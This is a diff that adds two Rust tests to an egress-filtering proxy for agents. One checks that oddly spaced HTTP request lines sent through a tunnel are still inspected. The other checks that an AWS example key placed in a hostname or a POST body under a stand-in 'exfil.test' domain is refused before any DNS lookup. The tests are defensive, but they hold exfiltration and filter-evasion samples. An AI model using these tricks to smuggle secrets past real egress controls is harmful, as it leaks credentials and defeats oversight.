@@ -712,6 +712,50 @@ when { context.scheme != "connect" && context.scheme != "https" };
 }
 
 #[tokio::test]
+async fn http_that_lenient_servers_accept_is_served_as_http_in_a_tunnel_not_copied_as_tcp() {
+    use tokio::io::AsyncWriteExt;
+    let (port, received) = raw_service().await;
+    let dns = Dns::start(json!({"allowed.test": [["127.0.0.1"]]}))
+        .await
+        .unwrap();
+    // allowed.test is permitted whatever its tunnels carry: what is copied as TCP is not
+    // inspected, what is served as HTTP is judged request by request (uploads forbidden).
+    let (warden, proxy) = warden(&dns, &[("egress.cedar", ALLOWLIST)]).await;
+    let token = warden.token("build-bot").await.unwrap();
+    let body = "x=1";
+    // Python's http.server splits its request line on any white space; nginx takes several
+    // spaces between its parts.
+    for line in [
+        "POST  /upload/x HTTP/1.1",
+        "POST\t/upload/x\tHTTP/1.1",
+        " POST /upload/x HTTP/1.1",
+        "POST /upload/x http/1.1",
+    ] {
+        let (mut tunnel, answer) = open_tunnel(proxy, &format!("allowed.test:{port}"), &token)
+            .await
+            .unwrap();
+        assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
+        let request = format!(
+            "{line}\r\nHost: allowed.test\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}",
+            body.len()
+        );
+        tunnel.write_all(request.as_bytes()).await.unwrap();
+        assert_closed(&mut tunnel).await;
+    }
+    let judged = tunnel_judgements(&warden, "allowed.test", "first_bytes");
+    assert_eq!(judged.len(), 4, "{judged:#?}");
+    for record in &judged {
+        assert_eq!(record["detail"]["egress"]["scheme"], "http", "{record}");
+    }
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    assert_eq!(
+        received.load(std::sync::atomic::Ordering::SeqCst),
+        0,
+        "a request reached the service uninspected"
+    );
+}
+
+#[tokio::test]
 async fn plain_http_in_a_tunnel_is_judged_per_request_as_the_tunnels_agent() {
     let Allowlisted {
         http,
@@ -1126,6 +1170,95 @@ when { context.findings.contains("aws_access_key") };
         !log.contains(canary.trim()),
         "the canary's value is recorded"
     );
+}
+
+#[tokio::test]
+async fn a_secret_in_a_plain_http_urls_host_is_refused_before_it_is_looked_up() {
+    let http = Origin::start(LOOPBACK, 0, None).await.unwrap();
+    let port = http.addr.port();
+    // The DNS server would answer for the name that carries the key: a query for it, or the
+    // request sent to it, would leak the key.
+    let name = "akiaiosfodnn7example.exfil.test";
+    let dns = Dns::start(json!({name: [["127.0.0.1"]], "ok.exfil.test": [["127.0.0.1"]]}))
+        .await
+        .unwrap();
+    let policies = r#"
+@id("egress-exfil-test")
+@egress("internal")
+permit (principal is Agent, action in [Action::"egress:connect", Action::"egress:request"], resource)
+when { resource.name like "*.exfil.test" };
+
+@id("egress-no-aws-keys")
+@reason("an AWS key leaves")
+forbid (principal, action, resource)
+when { context.findings.contains("aws_access_key") };
+"#;
+    let (warden, proxy, token) = allowlist_and(&dns, ("exfil.cedar", policies)).await;
+    let got = curl(proxy, Some(&token), &[&format!("http://{name}:{port}/")])
+        .await
+        .unwrap();
+    assert_eq!(got.status, 403, "{got:?}");
+    assert!(got.body.contains("an AWS key leaves"), "{got:?}");
+    // A name without a secret goes, as always.
+    let got = curl(
+        proxy,
+        Some(&token),
+        &[&format!("http://ok.exfil.test:{port}/")],
+    )
+    .await
+    .unwrap();
+    assert_eq!(got.status, 200, "{got:?}");
+    assert!(
+        !dns.queries().iter().any(|q| q["name"] == name),
+        "the name with the key was looked up: {:?}",
+        dns.queries()
+    );
+    assert_eq!(http.seen().len(), 1, "only ok.exfil.test arrived");
+    let record = records_for(&warden, name)
+        .into_iter()
+        .find(|r| r["kind"] == "decision")
+        .expect("the decision");
+    assert_eq!(record["decision"], "deny", "{record}");
+    assert_eq!(
+        record["detail"]["egress"]["addresses"],
+        json!([]),
+        "{record}"
+    );
+    assert_eq!(
+        record["findings"][0]["location"], "url host, byte 0",
+        "{record}"
+    );
+
+    // A forbid that redacts cannot redact a host: the request is still denied, and the name
+    // is not looked up for the redaction's sake either.
+    let redacting = policies.replace(
+        "@reason(\"an AWS key leaves\")",
+        "@reason(\"AWS keys are redacted\")\n@on_match(\"redact\")",
+    );
+    warden.write_policy("exfil.cedar", &redacting).unwrap();
+    let url = format!("http://{name}:{port}/");
+    let body = "k=AKIAIOSFODNN7EXAMPLE";
+    let redacted = async {
+        loop {
+            let got = curl(proxy, Some(&token), &[&url, "--data", body])
+                .await
+                .unwrap();
+            if got.body.contains("AWS keys are redacted") {
+                return got;
+            }
+            tokio::time::sleep(Duration::from_millis(200)).await;
+        }
+    };
+    let got = tokio::time::timeout(Duration::from_secs(20), redacted)
+        .await
+        .expect("the redacting policy is loaded");
+    assert_eq!(got.status, 403, "{got:?}");
+    assert!(
+        !dns.queries().iter().any(|q| q["name"] == name),
+        "the name with the key was looked up: {:?}",
+        dns.queries()
+    );
+    assert_eq!(http.seen().len(), 1, "only ok.exfil.test arrived");
 }
 
 #[tokio::test]
